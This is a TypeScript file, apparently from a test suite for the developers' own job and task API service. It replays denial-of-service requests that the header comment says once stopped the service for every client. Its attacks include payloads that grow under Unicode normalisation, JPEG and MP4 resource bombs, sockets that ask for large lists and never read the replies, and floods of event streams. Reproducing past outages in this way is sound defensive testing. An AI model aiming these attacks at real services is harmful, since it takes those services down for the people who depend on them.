// Requests of one client that once stopped the service for all clients. Their bytes are built before they start, and sent
// over plain sockets, so that an attacker costs next to nothing on the machine that it shares with the service.
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { indexBombMp4, scanBombJpeg } from '../files/bombs.ts'
import { type CallOptions, createApi, taskBody } from '../service/api.ts'
import { createLane, requestBytes } from './lanes.ts'
import { embeddingsPath, largeBodies, uploadPath } from './large-bodies.ts'

export interface Target {
  url: string
  key: string
}

export interface Attack {
  name: string
  /** Goes on until the signal aborts. */
  run(signal: AbortSignal): Promise<unknown>
}

/** U+FDFA becomes 18 characters when it is normalised. */
const phrase = '\ufdfa'
const createPath = '/api/v1/jobs/createTask'

export async function makeAttacks(target: Target): Promise<Attack[]> {
  const scans = (await scanBombJpeg(300)).toString('base64')
  const index = indexBombMp4(80_000_000).toString('base64')
  const attack = (name: string, atOnce: number, path: string, body: object) => ({
    name,
    run: repeat(target.url, atOnce, [requestBytes(target, 'POST', path, jsonOptions(body))]),
  })
  return [
    attack('texts that grow when normalised', 2, embeddingsPath, { inputs: new Array(6).fill(phrase.repeat(8192)) }),
    attack('prompts that grow when normalised', 2, createPath, taskBody(phrase.repeat(2400))),
    attack('prompts to explain that grow', 2, '/api/v1/prompts/explain', { prompt: phrase.repeat(2400) }),
    attack('JPEG with 300 scans', 5, uploadPath, { base64Data: scans }),
    attack('MP4 with 80 million samples', 12, uploadPath, { base64Data: index }),
  ]
}

export function largeBodyAttacks(target: Target): Attack[] {
  return Object.entries(largeBodies).map(([name, { path, options }]) => ({
    name,
    run: repeat(target.url, 2, [requestBytes(target, 'POST', path, options)]),
  }))
}

/** Fills the list with tasks as large as they may be, and asks for it again and again without reading the responses. */
export async function unreadLists(target: Target, readers: number): Promise<Attack> {
  const api = createApi(target.url, target.key)
  const junk = 'x'.repeat(200_000)
  for (let i = 0; i < 100; i++) await api.post(createPath, { ...taskBody('\ufdfa'.repeat(2400)), junk })
  const { hostname, port } = new URL(target.url)
  const bytes = requestBytes(target, 'GET', '/api/v1/jobs/list?limit=100')
  const requests = Buffer.concat(new Array(10).fill(bytes))
  return {
    name: `${readers} readers that do not read`,
    run: (signal) =>
      lanes(readers, async () => {
        while (!signal.aborted) {
          const socket = connect(Number(port), hostname).on('error', () => {})
          socket.pause()
          socket.write(requests)
          await sleep(1000)
          socket.destroy()
        }
      }),
  }
}

/** Event streams of one sub-key, as many as it may have and more, while its task changes. */
export async function manyStreams(target: Target, streams: number): Promise<Attack> {
  const taskId = await createApi(target.url, target.key).createTask()
  const { hostname, port } = new URL(target.url)
  const bytes = requestBytes(target, 'GET', `/api/v1/jobs/events?taskId=${taskId}`)
  return {
    name: `${streams} event streams of a sub-key`,
    // A stream that ends is opened again.
    run: (signal) =>
      lanes(streams, async () => {
        while (!signal.aborted) {
          const socket = connect(Number(port), hostname).on('error', () => {})
          socket.write(bytes)
          socket.resume()
          const closed = new Promise((resolve) => socket.once('close', resolve))
          const stop = () => socket.destroy()
          signal.addEventListener('abort', stop)
          await closed
          signal.removeEventListener('abort', stop)
          await sleep(1000)
        }
      }),
  }
}

export const jsonOptions = (body: object): CallOptions => ({
  raw: JSON.stringify(body),
  headers: { 'content-type': 'application/json' },
})

/** Keeps `atOnce` of the requests going. After each response a client needs a moment for the next request. */
export function repeat(url: string, atOnce: number, requests: Buffer[]): Attack['run'] {
  return (signal) =>
    lanes(atOnce, async () => {
      const lane = createLane(url)
      while (!signal.aborted) {
        await lane.send(requests[Math.floor(Math.random() * requests.length)]!, signal)
        await sleep(20)
      }
      lane.close()
    })
}

function lanes(count: number, lane: () => Promise<void>): Promise<unknown> {
  return Promise.all(Array.from({ length: count }, lane))
}
